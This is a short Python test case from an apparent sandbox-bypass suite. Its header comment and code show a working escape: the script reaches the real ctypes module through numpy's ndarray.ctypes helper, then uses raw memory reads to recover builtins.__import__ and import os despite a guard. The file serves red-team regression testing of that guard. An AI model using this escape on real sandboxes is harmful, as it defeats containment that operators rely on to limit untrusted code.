# numpy's ndarray.ctypes is a helper object whose _ctypes attribute is the real ctypes module
# (a private attribute of an instance, which the static rules allow); its string_at and cast
# turn addresses into objects: the builtins module behind len, then its real __import__. The
# guard refused only ctypes' library loading. Found by a red-team review (data policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "115_numpy_ctypes_helper"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

ct = np.zeros(1).ctypes._ctypes


def word(addr):
    return int.from_bytes(ct.string_at(addr, 8), "little")


builtins_module = ct.cast(word(id(len) + 24), ct.py_object).value
builtins_dict = ct.cast(word(id(builtins_module) + 16), ct.py_object).value
won(builtins_dict["__import__"]("os").getcwd())
